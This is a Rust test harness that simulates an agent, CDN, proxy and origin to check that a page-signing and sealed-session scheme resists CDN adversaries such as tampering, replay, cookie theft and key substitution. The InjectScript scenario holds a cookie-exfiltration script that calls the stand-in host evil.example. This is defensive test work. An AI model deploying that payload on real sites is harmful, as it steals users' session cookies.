//! End-to-end simulation: agent → CDN → proxy → origin, with a stub DNS
//! resolver publishing the site key. A scripted browsing session runs
//! against the CDN in one adversary mode, and the CDN's transcript is
//! scanned for the site's secrets.

use std::sync::Arc;

use bytes::Bytes;
use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha20Rng;
use regex::Regex;

use super::fixture::{OriginFixture, Sentinels, AUTH_COOKIE, USERNAME};
use super::mutate::RANDOM_KINDS;
use super::report::{CacheStats, ClientStep, MutationSummary, MutationTrial, ScenarioVerdict, SentinelHit, TranscriptReport};
use super::{AdversaryMode, AttackOutcome, Cdn, CdnOptions, Mutation, MutationKind, TamperTarget};
use crate::agent::{Agent, AgentError, ClientSessionCache, FetchRequest, FetchResponse, HandshakeMode, KeySource, SiteConfig};
use crate::clock::{ManualClock, SharedClock};
use crate::crypto::SigningKeyPair;
use crate::integrity::{self, PageLoad, Verifier};
use crate::keydist::{emit_tlsa, DohClient, KeyCache, KeyLookup, StubResolver, StubZone};
use crate::net::{self, ServerHandle};
use crate::proxy::{ProxyConfig, ProxyServer};
use crate::rng::SharedRng;
use crate::session::SessionError;
use crate::wire::DetachedSignature;

pub const KEY_DOMAIN: &str = "shop.example";
pub const HANDSHAKE_PATH: &str = "/clientHello";
/// Fixed start time for simulated runs.
pub const DEFAULT_NOW: u64 = 1_700_000_000;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scenario {
    Honest,
    PassiveLog,
    TamperScript,
    InjectScript,
    RequestReplay,
    ResponseReplay,
    CookieStealReplay,
    KeySubstitute,
    KeySubstitutePoisonedZone,
    /// Randomized tampering of handshakes, requests and responses.
    Mutations,
}

impl Scenario {
    pub const ALL: [Scenario; 10] = [
        Scenario::Honest,
        Scenario::PassiveLog,
        Scenario::TamperScript,
        Scenario::InjectScript,
        Scenario::RequestReplay,
        Scenario::ResponseReplay,
        Scenario::CookieStealReplay,
        Scenario::KeySubstitute,
        Scenario::KeySubstitutePoisonedZone,
        Scenario::Mutations,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Scenario::Honest => "honest",
            Scenario::PassiveLog => "passive_log",
            Scenario::TamperScript => "tamper_script",
            Scenario::InjectScript => "inject_script",
            Scenario::RequestReplay => "request_replay",
            Scenario::ResponseReplay => "response_replay",
            Scenario::CookieStealReplay => "cookie_steal_replay",
            Scenario::KeySubstitute => "key_substitute",
            Scenario::KeySubstitutePoisonedZone => "key_substitute_poisoned_zone",
            Scenario::Mutations => "mutations",
        }
    }

    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|s| s.name() == name)
    }
}

#[derive(Debug, Clone)]
pub struct WorldOptions {
    pub seed: u64,
    pub now: u64,
    pub handshake_mode: HandshakeMode,
    /// Publish the attacker's key instead of the site's.
    pub poison_zone: bool,
}

impl Default for WorldOptions {
    fn default() -> Self {
        WorldOptions { seed: 1, now: DEFAULT_NOW, handshake_mode: HandshakeMode::OnDemand, poison_zone: false }
    }
}

/// All parties of one simulated deployment, each on its own loopback port.
#[derive(Debug)]
pub struct World {
    pub clock: ManualClock,
    pub site_key: SigningKeyPair,
    pub attacker_key: Arc<SigningKeyPair>,
    pub origin: Arc<OriginFixture>,
    pub proxy: Arc<ProxyServer>,
    pub cdn: Arc<Cdn>,
    pub resolver: Arc<StubResolver>,
    pub agent: Agent,
    verifier_dns: (DohClient, KeyCache),
    cdn_url: String,
    _servers: Vec<ServerHandle>,
}

pub fn site_config_json(resolver_url: &str, handshake_mode: HandshakeMode) -> String {
    let mode = match handshake_mode {
        HandshakeMode::OnDemand => "on_demand",
        HandshakeMode::Eager => "eager",
    };
    serde_json::json!({
        "sensitiveURLs": ["/login", {"regex": "^/profile(/|$)"}, "/transactions", {"regex": "^/private/"}],
        "handshakeURL": HANDSHAKE_PATH,
        "handshakeMode": mode,
        "keyDomain": KEY_DOMAIN,
        "resolverURL": resolver_url,
        "requireAD": true,
    })
    .to_string()
}

pub fn proxy_config_text(origin_url: &str) -> String {
    format!(
        "listen 127.0.0.1:0;\n\
         origin {origin_url};\n\
         cloakhello {HANDSHAKE_PATH};\n\
         cloakenc exact:/login;\n\
         cloakenc re:^/profile(/|$);\n\
         cloakenc exact:/transactions;\n\
         cloakenc prefix:/private/;\n\
         cloakstate shared 10240 site.pem;\n\
         cloakcookie {AUTH_COOKIE};\n"
    )
}

impl World {
    pub async fn start(opts: &WorldOptions, mode: impl FnOnce(&Arc<SigningKeyPair>) -> AdversaryMode) -> std::io::Result<World> {
        let mut rng = SharedRng::seeded(opts.seed);
        let clock = ManualClock::new(opts.now);
        let shared_clock: SharedClock = Arc::new(clock.clone());
        let site_key = SigningKeyPair::generate(&mut rng);
        let attacker_key = Arc::new(SigningKeyPair::generate(&mut rng));

        let origin = Arc::new(OriginFixture::new(Sentinels::generate(&mut rng), &site_key));
        let origin_srv = net::spawn("127.0.0.1:0", Arc::clone(&origin)).await?;

        let config = ProxyConfig::parse(&proxy_config_text(&origin_srv.url()))
            .map_err(|e| std::io::Error::other(e.to_string()))?;
        let proxy = Arc::new(ProxyServer::new(config, site_key.clone(), shared_clock.clone(), rng.clone()));
        let proxy_srv = net::spawn("127.0.0.1:0", Arc::clone(&proxy)).await?;

        let published = if opts.poison_zone { attacker_key.public_key() } else { site_key.public_key() };
        let mut zone = StubZone::new();
        zone.insert_tlsa(&emit_tlsa(&published, KEY_DOMAIN));
        let resolver = Arc::new(StubResolver::new(zone, true));
        let resolver_srv = net::spawn("127.0.0.1:0", Arc::clone(&resolver)).await?;
        let doh_url = format!("{}/dns-query", resolver_srv.url());

        let cdn = Arc::new(Cdn::new(
            CdnOptions {
                upstream: proxy_srv.url(),
                handshake_path: HANDSHAKE_PATH.into(),
                upstream_key: site_key.public_key(),
                mode: mode(&attacker_key),
            },
            shared_clock.clone(),
            rng.clone(),
        ));
        let cdn_srv = net::spawn("127.0.0.1:0", Arc::clone(&cdn)).await?;

        let site = SiteConfig::load(site_config_json(&doh_url, opts.handshake_mode).as_bytes())
            .map_err(|e| std::io::Error::other(e.to_string()))?;
        let keys = KeySource::Dns {
            doh: DohClient::new(doh_url.clone(), true, rng.clone()),
            cache: KeyCache::new(shared_clock.clone()),
        };
        let agent = Agent::new(site, keys, ClientSessionCache::in_memory(), shared_clock.clone(), rng.clone());
        let verifier_dns = (DohClient::new(doh_url, true, rng.clone()), KeyCache::new(shared_clock));

        Ok(World {
            clock,
            site_key,
            attacker_key,
            origin,
            proxy,
            cdn,
            resolver,
            agent,
            verifier_dns,
            cdn_url: cdn_srv.url(),
            _servers: vec![origin_srv, proxy_srv, resolver_srv, cdn_srv],
        })
    }

    /// A URL on the site as the user agent addresses it (through the CDN).
    pub fn url(&self, target: &str) -> String {
        format!("{}{target}", self.cdn_url)
    }

    pub fn origin_key(&self) -> String {
        self.cdn_url.clone()
    }

    async fn step(&self, name: &str, req: FetchRequest) -> (ClientStep, Option<FetchResponse>) {
        let result = self.agent.fetch(&req).await;
        let mut step = ClientStep {
            name: name.into(),
            method: req.method.clone(),
            url: req.url.clone(),
            status: None,
            sealed: false,
            error: None,
            security_error: false,
            body: Bytes::new(),
        };
        match result {
            Ok(resp) => {
                step.status = Some(resp.status);
                step.sealed = resp.sealed;
                step.body = resp.body.clone();
                (step, Some(resp))
            }
            Err(e) => {
                step.security_error = e.is_security();
                step.error = Some(e.to_string());
                (step, None)
            }
        }
    }

    /// Loads the landing page and its subresources, checking executable
    /// objects against the key published in DNS.
    pub async fn load_page(&self, path: &str, steps: &mut Vec<ClientStep>) -> PageLoad {
        let key = match self.verifier_dns.1.fetch_key(&self.verifier_dns.0, KEY_DOMAIN).await {
            Ok(KeyLookup::Enabled(k)) => Some(k),
            _ => None,
        };
        let verifier = Verifier::new(key, false);
        let mut page = PageLoad::default();
        let mut queue = vec![path.to_string()];
        let mut index = 0;
        let subresource = Regex::new(r#"<(?:script|img)\b[^>]*\bsrc="(/[^"]*)"|<link\b[^>]*\bhref="(/[^"]*)""#).expect("static regex");
        while index < queue.len() {
            let object = queue[index].clone();
            index += 1;
            let (step, resp) = self.step(&format!("load {object}"), FetchRequest::get(self.url(&object))).await;
            steps.push(step);
            let Some(resp) = resp else {
                page.record(&object, integrity::Verdict::Rejected("fetch failed".into()));
                continue;
            };
            let ct = resp
                .header_values("content-type")
                .next()
                .map(|v| String::from_utf8_lossy(v).into_owned());
            let sig = if verifier.is_enabled()
                && integrity::classify_executable(ct.as_deref(), &object, false) == integrity::ObjectClass::Executable
            {
                let sidecar = format!("{object}.{}", integrity::SIDECAR_EXT);
                let (step, sresp) = self.step(&format!("load {sidecar}"), FetchRequest::get(self.url(&sidecar))).await;
                steps.push(step);
                sresp
                    .filter(|r| r.status == 200)
                    .and_then(|r| DetachedSignature::from_hex(String::from_utf8_lossy(&r.body).trim()).ok())
            } else {
                None
            };
            page.record(&object, verifier.verify(&object, ct.as_deref(), &resp.body, sig.as_ref()));
            if index == 1 {
                let html = String::from_utf8_lossy(&resp.body);
                for cap in subresource.captures_iter(&html) {
                    if let Some(m) = cap.get(1).or_else(|| cap.get(2)) {
                        if !queue.iter().any(|q| q == m.as_str()) {
                            queue.push(m.as_str().to_string());
                        }
                    }
                }
            }
        }
        page
    }

    /// The scripted session: land, log in, read two private pages, then a
    /// public one with the cookie jar attached. Stops at a blocked page.
    pub async fn browse(&self) -> (PageLoad, Vec<ClientStep>) {
        let mut steps = Vec::new();
        let page = self.load_page("/index.html", &mut steps).await;
        if page.blocked() {
            return (page, steps);
        }
        if let Err(e) = self.agent.on_landing(&self.url("/index.html")).await {
            steps.push(ClientStep {
                name: "landing handshake".into(),
                method: "POST".into(),
                url: self.url(HANDSHAKE_PATH),
                status: None,
                sealed: false,
                security_error: e.is_security(),
                error: Some(e.to_string()),
                body: Bytes::new(),
            });
        }

        let s = self.origin.sentinels();
        let login = FetchRequest::post(self.url("/login"), format!("user={USERNAME}&password={}", s.password))
            .header("content-type", "application/x-www-form-urlencoded");
        let (step, resp) = self.step("login", login).await;
        steps.push(step);
        let mut jar: Vec<(String, String)> = Vec::new();
        if let Some(resp) = resp {
            for v in resp.header_values("set-cookie") {
                let v = String::from_utf8_lossy(v);
                if let Some((name, value)) = v.split(';').next().and_then(|p| p.trim().split_once('=')) {
                    jar.retain(|(n, _)| n != name);
                    jar.push((name.to_string(), value.to_string()));
                }
            }
        }
        let cookie = jar.iter().map(|(n, v)| format!("{n}={v}")).collect::<Vec<_>>().join("; ");
        let with_jar = |req: FetchRequest| if cookie.is_empty() { req } else { req.header("cookie", &cookie) };

        for (name, target) in [
            ("profile", "/profile".to_string()),
            ("transactions", format!("/transactions?acct={}", s.account)),
            ("news", "/news.html".to_string()),
        ] {
            let (step, _) = self.step(name, with_jar(FetchRequest::get(self.url(&target)))).await;
            steps.push(step);
        }
        (page, steps)
    }

    pub fn sentinel_hits(&self) -> Vec<SentinelHit> {
        let entries = self.cdn.transcript().entries();
        let mut hits = Vec::new();
        for (name, value) in self.origin.sentinels().all() {
            for e in entries.iter().filter(|e| e.contains(value.as_bytes())) {
                hits.push(SentinelHit { sentinel: name.into(), hop: e.hop, index: e.index });
            }
        }
        hits
    }

    fn report(&self, scenario: Scenario, seed: u64, page: PageLoad, steps: Vec<ClientStep>, attacks: Vec<AttackOutcome>) -> TranscriptReport {
        TranscriptReport {
            scenario: scenario.name().into(),
            verdict: ScenarioVerdict::Pass,
            reason: String::new(),
            seed,
            adversary: String::new(),
            sentinel_hits: self.sentinel_hits(),
            page_blocked: page.blocked(),
            page,
            steps,
            attacks,
            proxy: self.proxy.stats(),
            origin_hits: self.origin.hits(),
            origin_authenticated: self.origin.authenticated_responses(),
            agent: self.agent.counters(),
            cache: CacheStats { hits: self.cdn.cache().hits(), misses: self.cdn.cache().misses() },
            mutations: None,
            transcript: self.cdn.transcript().entries(),
        }
    }
}

fn verdict(ok: bool, reason: impl Into<String>) -> (ScenarioVerdict, String) {
    let reason = reason.into();
    if ok {
        (ScenarioVerdict::Pass, reason)
    } else {
        (ScenarioVerdict::Fail, reason)
    }
}

/// The user got their own private data back, sealed.
fn private_pages_loaded(world: &World, steps: &[ClientStep]) -> bool {
    let s = world.origin.sentinels();
    let find = |name: &str| steps.iter().find(|st| st.name == name);
    let has = |name: &str, needle: &str| {
        find(name).is_some_and(|st| st.ok() && st.sealed && st.status == Some(200) && String::from_utf8_lossy(&st.body).contains(needle))
    };
    has("profile", &s.profile) && has("transactions", &s.transactions) && find("login").is_some_and(|st| st.status == Some(200))
}

pub async fn run_scenario(scenario: Scenario, seed: u64, now: u64) -> TranscriptReport {
    match run_scenario_inner(scenario, seed, now).await {
        Ok(report) => report,
        Err(e) => infrastructure_report(scenario, seed, e.to_string()),
    }
}

fn infrastructure_report(scenario: Scenario, seed: u64, reason: String) -> TranscriptReport {
    TranscriptReport {
        scenario: scenario.name().into(),
        verdict: ScenarioVerdict::InfrastructureError,
        reason,
        seed,
        adversary: String::new(),
        sentinel_hits: Vec::new(),
        page_blocked: false,
        page: PageLoad::default(),
        steps: Vec::new(),
        attacks: Vec::new(),
        proxy: Default::default(),
        origin_hits: Default::default(),
        origin_authenticated: 0,
        agent: Default::default(),
        cache: CacheStats { hits: 0, misses: 0 },
        mutations: None,
        transcript: Vec::new(),
    }
}

async fn run_scenario_inner(scenario: Scenario, seed: u64, now: u64) -> std::io::Result<TranscriptReport> {
    if scenario == Scenario::Mutations {
        return run_mutation_scenario(100, seed, now).await;
    }
    let opts = WorldOptions {
        seed,
        now,
        poison_zone: scenario == Scenario::KeySubstitutePoisonedZone,
        ..Default::default()
    };
    let world = World::start(&opts, |attacker| match scenario {
        Scenario::Honest | Scenario::Mutations => AdversaryMode::Honest,
        Scenario::PassiveLog => AdversaryMode::PassiveLog,
        Scenario::TamperScript => AdversaryMode::Tamper {
            target: TamperTarget::Object("/app.js".into()),
            mutation: Mutation::new(MutationKind::AppendScript, seed),
        },
        Scenario::InjectScript => AdversaryMode::Inject {
            path: "/index.html".into(),
            script: "fetch('https://evil.example/c?'+document.cookie)".into(),
        },
        Scenario::RequestReplay => AdversaryMode::RequestReplay,
        Scenario::ResponseReplay => AdversaryMode::ResponseReplay,
        Scenario::CookieStealReplay => AdversaryMode::CookieStealReplay,
        Scenario::KeySubstitute => AdversaryMode::KeySubstitute { attacker: Arc::clone(attacker), resign_objects: false },
        Scenario::KeySubstitutePoisonedZone => {
            AdversaryMode::KeySubstitute { attacker: Arc::clone(attacker), resign_objects: true }
        }
    })
    .await?;
    let adversary = world.cdn.mode().name().to_string();
    let (page, steps) = world.browse().await;
    let mut attacks = Vec::new();
    let leaks = world.sentinel_hits().len();

    let (v, reason) = match scenario {
        Scenario::Honest | Scenario::PassiveLog => verdict(
            leaks == 0 && !page.blocked() && private_pages_loaded(&world, &steps),
            format!("{leaks} sentinel occurrences visible to the CDN"),
        ),
        Scenario::TamperScript | Scenario::InjectScript => verdict(
            page.blocked() && leaks == 0 && world.origin.authenticated_responses() == 0,
            if page.blocked() { "page load blocked by signature check" } else { "altered page was accepted" },
        ),
        Scenario::RequestReplay => {
            let before = world.origin.total_requests();
            let replay = world.cdn.replay_request().await;
            let after = world.origin.total_requests();
            let hello = world.cdn.replay_hello().await;
            let replay_rejected = replay.as_ref().is_some_and(|o| o.status == Some(400));
            let same_sid = hello.as_ref().map_or(true, |(_, same)| *same);
            attacks.extend(replay);
            attacks.extend(hello.map(|(o, _)| o));
            verdict(
                replay_rejected && before == after && !same_sid && leaks == 0 && private_pages_loaded(&world, &steps),
                format!(
                    "replayed request rejected: {replay_rejected}; origin requests during replay: {}; replayed hello reused session id: {same_sid}",
                    after - before
                ),
            )
        }
        Scenario::ResponseReplay => {
            let mismatch = steps.iter().any(|s| {
                s.error.as_deref().is_some_and(|e| e.contains(&SessionError::SequenceMismatch.to_string()))
            });
            verdict(mismatch && leaks == 0, format!("stale response rejected as a sequence mismatch: {mismatch}"))
        }
        Scenario::CookieStealReplay => {
            let before = world.origin.authenticated_responses();
            attacks.extend(world.cdn.steal_and_replay("/profile").await);
            let gained = world.origin.authenticated_responses() - before;
            let stolen = !world.cdn.stolen_cookies().is_empty();
            verdict(
                stolen && gained == 0 && leaks == 0 && private_pages_loaded(&world, &steps),
                format!("cookies captured: {stolen}; authenticated responses obtained by the attacker: {gained}"),
            )
        }
        Scenario::KeySubstitute => {
            let sig_invalid = steps
                .iter()
                .any(|s| s.error.as_deref().is_some_and(|e| e.contains(&SessionError::SignatureInvalid.to_string())));
            verdict(
                sig_invalid && leaks == 0 && world.origin.authenticated_responses() == 0,
                format!("substituted handshake rejected: {sig_invalid}"),
            )
        }
        Scenario::KeySubstitutePoisonedZone => {
            if leaks > 0 {
                (
                    ScenarioVerdict::ExpectedFailure,
                    format!("with the attacker's key published in DNS the interception succeeds: {leaks} sentinel occurrences"),
                )
            } else {
                (ScenarioVerdict::Fail, "interception with a poisoned zone did not succeed".into())
            }
        }
        Scenario::Mutations => unreachable!(),
    };
    let mut report = world.report(scenario, seed, page, steps, attacks);
    report.adversary = adversary;
    report.verdict = v;
    report.reason = reason;
    Ok(report)
}

/// Runs `n` tamper trials against one deployment. Each trial mutates a
/// single handshake, request or response and checks that the receiving
/// side refused it.
pub async fn run_mutation_trials(world: &World, n: usize, seed: u64) -> MutationSummary {
    let mut rng = ChaCha20Rng::seed_from_u64(seed);
    let mut summary = MutationSummary::default();
    let origin = world.origin_key();
    for index in 0..n {
        let target = match index % 3 {
            0 => TamperTarget::Handshake,
            1 => TamperTarget::Request,
            _ => TamperTarget::Response,
        };
        let kind = RANDOM_KINDS[rng.gen_range(0..RANDOM_KINDS.len())];
        let mseed = rng.next_u64();
        if target == TamperTarget::Handshake {
            let _ = world.agent.sessions().remove(&origin);
        } else if world.agent.eager_handshake(&world.url("/index.html")).await.is_err() {
            summary.details.push(MutationTrial {
                index,
                target,
                kind,
                seed: mseed,
                applied: false,
                detected: false,
                outcome: "could not establish a session".into(),
            });
            continue;
        }
        let applied_before = world.cdn.mutations_applied();
        let proxy_before = world.proxy.stats();
        world.cdn.set_mode(AdversaryMode::Tamper { target: target.clone(), mutation: Mutation::new(kind, mseed) });
        let result = world.agent.fetch(&FetchRequest::get(world.url("/profile"))).await;
        world.cdn.set_mode(AdversaryMode::Honest);
        let applied = world.cdn.mutations_applied() > applied_before;
        let proxy_after = world.proxy.stats();
        let proxy_refused = proxy_after.rejected + proxy_after.unknown_session > proxy_before.rejected + proxy_before.unknown_session;
        let (detected, outcome) = match (&target, &result) {
            (TamperTarget::Request, r) => (
                proxy_refused,
                match r {
                    Ok(resp) => format!("proxy refused the altered envelope: {proxy_refused}; retry answered {}", resp.status),
                    Err(e) => format!("proxy refused the altered envelope: {proxy_refused}; {e}"),
                },
            ),
            (TamperTarget::Handshake, Err(e @ (AgentError::Handshake(_) | AgentError::HandshakeHttp(_)))) => (true, e.to_string()),
            (TamperTarget::Response, Err(e @ (AgentError::Response(_) | AgentError::Malformed(_)))) => (true, e.to_string()),
            (_, Err(e)) => (false, format!("unexpected error: {e}")),
            (_, Ok(resp)) => (false, format!("accepted, status {}", resp.status)),
        };
        let entry = summary.by_target.entry(target_name(&target).into()).or_default();
        entry.0 += 1;
        entry.1 += usize::from(detected && applied);
        summary.details.push(MutationTrial { index, target, kind, seed: mseed, applied, detected: detected && applied, outcome });
    }
    summary.trials = summary.details.len();
    summary.applied = summary.details.iter().filter(|t| t.applied).count();
    summary.detected = summary.details.iter().filter(|t| t.detected).count();
    summary
}

fn target_name(t: &TamperTarget) -> &'static str {
    match t {
        TamperTarget::Request => "request",
        TamperTarget::Response => "response",
        TamperTarget::Handshake => "handshake",
        TamperTarget::Object(_) => "object",
    }
}

async fn run_mutation_scenario(n: usize, seed: u64, now: u64) -> std::io::Result<TranscriptReport> {
    let world = World::start(&WorldOptions { seed, now, ..Default::default() }, |_| AdversaryMode::Honest).await?;
    let summary = run_mutation_trials(&world, n, seed).await;
    let ok = summary.all_detected();
    let reason = format!("{} of {} altered messages refused", summary.detected, summary.trials);
    let mut report = world.report(Scenario::Mutations, seed, PageLoad::default(), Vec::new(), Vec::new());
    report.adversary = "tamper".into();
    report.verdict = if ok { ScenarioVerdict::Pass } else { ScenarioVerdict::Fail };
    report.reason = reason;
    report.mutations = Some(summary);
    Ok(report)
}
